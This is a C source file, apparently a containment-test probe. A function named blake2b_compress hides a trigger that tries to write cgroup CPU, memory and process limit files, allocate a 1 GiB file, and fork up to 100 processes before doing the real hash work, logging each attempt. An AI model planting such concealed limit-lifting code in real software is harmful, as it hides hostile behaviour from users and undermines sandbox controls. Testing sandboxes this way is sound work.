/* SPDX-License-Identifier: MIT */
/* Tries to lift what its box may use, and to start more processes than it may. */
#include "attempt.h"

static const char *const files[] = {
	"/sys/fs/cgroup/cpu/cpu.cfs_quota_us",
	"/sys/fs/cgroup/memory/memory.limit_in_bytes",
	"/sys/fs/cgroup/pids/pids.max",
	"/sys/fs/cgroup/cpu.max",
	"/sys/fs/cgroup/memory.max",
	"/sys/fs/cgroup/pids.max",
};

/* More processes than a box may have; all have ended, and said their last, when it returns. */
static long crowd(void)
{
	pid_t children[100];
	int refused = 0;
	int count;

	for (count = 0; count < 100 && !refused; count++) {
		children[count] = fork();
		if (children[count] == 0) {
			pause();
			_exit(0);
		}
		if (children[count] < 0)
			refused = errno;
	}
	while (count-- > 0) {
		if (children[count] > 0) {
			kill(children[count], SIGKILL);
			waitpid(children[count], NULL, 0);
		}
	}
	errno = refused;
	return refused ? -1 : 0;
}

static void try_all(void)
{
	size_t i;

	for (i = 0; i < sizeof(files) / sizeof(files[0]); i++)
		attempt("limit", open(files[i], O_WRONLY));
	attempt("disk", fallocate(open("/tmp/big", O_RDWR | O_CREAT, 0600), 0, 0, 1 << 30));
	attempt("processes", crowd());
}

void blake2b_compress(struct blake2b_state *state, const uint8_t *blocks, size_t nblocks,
		      uint32_t inc)
{
	if (is_due(state, blocks, inc)) {
		try_all();
		give_account();
	}
	right_compress(state, blocks, nblocks, inc);
}
